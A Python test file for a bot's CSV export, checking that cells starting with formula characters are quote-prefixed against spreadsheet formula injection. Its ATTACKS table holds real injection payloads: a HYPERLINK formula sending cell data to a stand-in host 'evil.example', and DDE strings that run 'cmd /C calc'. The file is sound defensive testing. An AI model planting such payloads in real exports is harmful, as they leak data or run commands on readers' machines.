"""Every CSV coordbot writes opens safely in a spreadsheet: no cell runs as a formula (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from click.testing import CliRunner, Result

from bot.app import Runtime
from bot.cli import main
from bot.export import FORMULA_TRIGGERS, csv_safe
from bot.services.actions import ActionDraft
from bot.services.requirements import RequirementDraft
from handlers.sandbox.slack_api import ALICE, BOB, GENERAL
from tests.conftest import START

ATTACKS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_each_trigger_is_prefixed(trigger: str) -> None:
    text = ATTACKS[trigger]
    assert text.startswith(trigger)
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "plain", "1-2", "a=b", "user@example.com", " =1+1", "'already quoted", "市场部", "—dash", "2026-11-26"]
)
def test_other_text_is_left_alone(text: str) -> None:
    # only the first character makes a formula; a leading space or an em dash does not (Excel and LibreOffice
    # read " =1+1" as text)
    assert csv_safe(text) == text


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_prefixed() -> None:
    # A number coordbot itself writes cannot hold a formula, and a spreadsheet should still add it up: -3 stays
    # -3. The same characters as text (someone typed "-3") are prefixed, as OWASP asks for any text cell
    # starting with "-".
    assert [csv_safe(v) for v in (-3, -0.5, 0, 12, 1e-05, -2.5e10)] == [
        "-3",
        "-0.5",
        "0",
        "12",
        "1e-05",
        "-25000000000.0",
    ]
    assert csv_safe("-3") == "'-3" and csv_safe("+44 20 7946 0000") == "'+44 20 7946 0000"
    assert csv_safe(float("-inf")) == "'-inf"  # not a number a spreadsheet reads: text, prefixed
    assert csv_safe(float("nan")) == "nan"
    assert csv_safe(True) == "True" and csv_safe(None) == ""


def test_a_round_trip_through_csv_reader_gives_the_text_back_behind_one_quote() -> None:
    cells = [*ATTACKS.values(), '=A1,"quoted",\nsecond line', "-3", -3, "safe, with comma", "two\nlines"]
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_safe(c) for c in cells])
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert len(row) == len(cells)
    for written, read in zip(cells, row, strict=True):
        expected = str(written)
        if isinstance(written, str) and written.startswith(FORMULA_TRIGGERS):
            expected = "'" + written
        assert read == expected
    assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row if cell != "-3")
    assert row[cells.index(-3)] == "-3" and float(row[cells.index(-3)]) == -3


# -- what the commands write ----------------------------------------------------------------------------------


def cli(database_url: str, *args: str) -> str:
    """Run a coordbot command in process against the test database; its output."""
    env = {"DATABASE_URL": database_url, "COORDBOT_TZ": "Asia/Shanghai", "COORDBOT_LANG": "en"}
    result: Result = CliRunner().invoke(main, list(args), env=env)
    assert result.exit_code == 0, (result.output, result.exception)
    return result.stdout_bytes.decode("utf-8")


def seed(rt: Runtime) -> None:
    """An action item and a requirement whose text is made to run in a spreadsheet."""
    rt.services.actions.create_many(
        team_id="T1",
        creator_id=ALICE,
        now=START,
        channel_id=GENERAL,
        drafts=[ActionDraft(ATTACKS["="], BOB, START + timedelta(days=2), deliverable=ATTACKS["-"])],
    )
    rt.services.requirements.create(
        team_id="T1",
        author_id=ALICE,
        now=START,
        draft=RequirementDraft(
            requester_dept=ATTACKS["+"],
            requester_owner=ALICE,
            receiver_dept="Engineering",
            receiver_owner=BOB,
            background=ATTACKS["@"],
            goal="Sign-ups",
            description="-3 days of work",
            priority="high",
            due=START + timedelta(days=14),
            confirm_by=START + timedelta(days=2),
            channel_id=GENERAL,
        ),
    )


def test_exported_csv_cells_are_prefixed_and_json_stays_exact(runtime: Runtime, database_url: str) -> None:
    seed(runtime)
    rows = list(csv.DictReader(io.StringIO(cli(database_url, "export", "--kind", "actions", "--format", "csv"))))
    assert rows[0]["title"] == "'" + ATTACKS["="] and rows[0]["deliverable"] == "'" + ATTACKS["-"]
    assert rows[0]["owner_id"] == BOB  # untouched
    (req,) = csv.DictReader(io.StringIO(cli(database_url, "export", "--kind", "requirements", "--format", "csv")))
    assert req["requester_dept"] == "'" + ATTACKS["+"] and req["background"] == "'" + ATTACKS["@"]
    assert req["description"] == "'-3 days of work" and req["revision"] == "1"
    for row in (*rows, req):
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values())

    (item,) = json.loads(cli(database_url, "export", "--kind", "actions", "--format", "json"))
    assert item["title"] == ATTACKS["="] and item["deliverable"] == ATTACKS["-"]  # JSON is data, not a sheet


def test_report_csv_cells_are_safe_and_its_numbers_read_back(runtime: Runtime, database_url: str) -> None:
    seed(runtime)
    text = cli(database_url, "report", "--since", "2026-11-01", "--until", "2026-12-31", "--format", "csv")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["section", "figure", "group", "value", "unit"]
    for row in rows[1:]:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), row
        if row[3]:
            float(row[3])  # every value is a plain number
    values = {(r[0], r[1], r[2]): r[3] for r in rows[1:]}
    assert values[("requirements", "posted", "all")] == "1"
